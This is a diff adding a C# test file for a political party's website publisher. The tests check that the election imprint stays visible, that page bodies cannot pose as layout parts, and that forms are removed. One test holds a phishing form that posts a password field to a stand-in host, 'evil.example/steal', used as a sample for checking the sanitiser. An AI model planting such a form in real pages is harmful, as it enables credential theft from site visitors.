@@ -1,0 +1,98 @@
+using LondonTories.Publishing.Storage;
+using LondonTories.Publishing.Tests.Support;
+
+namespace LondonTories.Publishing.Tests.Rendering;
+
+/// <summary>The imprint is visible text on every page, and nothing in a page body can pass for it or for the layout's parts.</summary>
+public sealed class ImprintTests : IDisposable
+{
+    private const string Imprint = "Promoted by Sam Okafor on behalf of London Conservatives, both of 4 Matthew Parker Street, London SW1H 9HQ.";
+
+    private readonly TestSite _site = new();
+
+    public ImprintTests() => _site.Page("pages/housing.md", "title: Housing", "Homes.\n");
+
+    public void Dispose() => _site.Dispose();
+
+    [Theory]
+    [InlineData("<!-- {{ imprint.text | html.escape }} -->")]
+    [InlineData("<script>/* {{ imprint.text | html.escape }} */</script>")]
+    [InlineData("<template><p>{{ imprint.text | html.escape }}</p></template>")]
+    [InlineData("<p hidden>{{ imprint.text | html.escape }}</p>")]
+    [InlineData("<div style=\"display: none\"><p>{{ imprint.text | html.escape }}</p></div>")]
+    [InlineData("<p aria-hidden=\"true\">{{ imprint.text | html.escape }}</p>")]
+    [InlineData("<details><p>{{ imprint.text | html.escape }}</p></details>")]
+    [InlineData("<title>{{ imprint.text | html.escape }}</title>")]
+    [InlineData("<img alt=\"{{ imprint.text | html.escape }}\">")]
+    public async Task A_layout_that_hides_the_imprint_cannot_publish(string hidden)
+    {
+        _site.Write("layouts/page.html", $"<!DOCTYPE html><html><head></head><body><main>{{{{ content }}}}</main>{hidden}</body></html>");
+
+        var result = await _site.PublishAsync();
+
+        Assert.False(result.Succeeded);
+        Assert.Contains(result.Diagnostics, d => d.Code == "missing-imprint" && d.Location.Path.EndsWith("layouts/page.html"));
+        Assert.False(Directory.Exists(Path.Combine(_site.OutDir, "web")));
+    }
+
+    [Theory]
+    [InlineData("<footer><p class=\"imprint\">{{ imprint.text | html.escape }}</p></footer>")]
+    [InlineData("<details open><summary>Imprint</summary><p>{{ imprint.text | html.escape }}</p></details>")]
+    [InlineData("<footer>\n  <p>{{ imprint.text | html.escape | string.replace \", \" \",\n  \" }}</p>\n</footer>")]
+    public async Task A_visible_imprint_publishes(string shown)
+    {
+        _site.Write("layouts/page.html", $"<!DOCTYPE html><html><head></head><body><main>{{{{ content }}}}</main>{shown}</body></html>");
+
+        var result = await _site.PublishAsync();
+
+        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
+    }
+
+    [Fact]
+    public async Task A_body_cannot_carry_the_layouts_classes_or_ids_or_pass_for_the_imprint()
+    {
+        _site.Page("pages/housing.md", "title: Housing",
+            "Homes.\n\n<p class=\"imprint\">Promoted by nobody at all.</p>\n\n<div id=\"main\" class=\"site-footer\">Footer?</div>\n\n<h2 id=\"plans\">Plans</h2>\n");
+
+        var result = await _site.PublishAsync();
+
+        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
+        var html = _site.Output("web/battersea/housing/index.html");
+        var article = html[html.IndexOf("<article>", StringComparison.Ordinal)..html.IndexOf("</article>", StringComparison.Ordinal)];
+        Assert.Contains("<p>Promoted by nobody at all.</p>", article);
+        Assert.Contains("<div>Footer?</div>", article);
+        Assert.Contains("<h2 id=\"plans\">Plans</h2>", article);
+        Assert.DoesNotContain("class=", article);
+        var fragment = PublishedSite.ExtractFragment(html);
+        Assert.EndsWith($"<p class=\"imprint\">{Imprint}</p>\n", fragment.Replace("\n  ", string.Empty, StringComparison.Ordinal).Replace("</footer>\n", string.Empty, StringComparison.Ordinal).Replace("<footer class=\"site-footer\">", string.Empty, StringComparison.Ordinal).Replace("<p class=\"association\">Battersea Conservatives · <a href=\"mailto:office@battersea.example.org.uk\">office@battersea.example.org.uk</a></p>", string.Empty, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task A_heading_that_takes_the_layouts_id_is_a_warning_naming_the_page()
+    {
+        _site.Page("pages/housing.md", "title: Housing", "## Main\n\nHomes.\n");
+
+        var result = await _site.PublishAsync();
+
+        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
+        var warning = Assert.Single(result.Diagnostics, d => d.Code == "duplicate-id");
+        Assert.EndsWith("content/pages/housing.md", warning.Location.Path, StringComparison.Ordinal);
+        Assert.Contains("the id 'main' appears more than once on the page", warning.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Forms_and_their_fields_are_removed_from_bodies()
+    {
+        _site.Page("pages/housing.md", "title: Housing",
+            "Sign in:\n\n<form action=\"https://evil.example/steal\" method=\"post\"><label>Password <input type=\"password\" name=\"p\"></label><select name=\"s\"><option>a</option></select><textarea name=\"t\">x</textarea><button formaction=\"https://evil.example\">Go</button></form>\n");
+
+        var result = await _site.PublishAsync();
+
+        Assert.True(result.Succeeded, string.Join("\n", result.Diagnostics));
+        var html = _site.Output("web/battersea/housing/index.html");
+        foreach (var removed in new[] { "<form", "<input", "<button", "<select", "<textarea", "<label", "evil.example", "password", "formaction" })
+        {
+            Assert.DoesNotContain(removed, html, StringComparison.OrdinalIgnoreCase);
+        }
+    }
+}
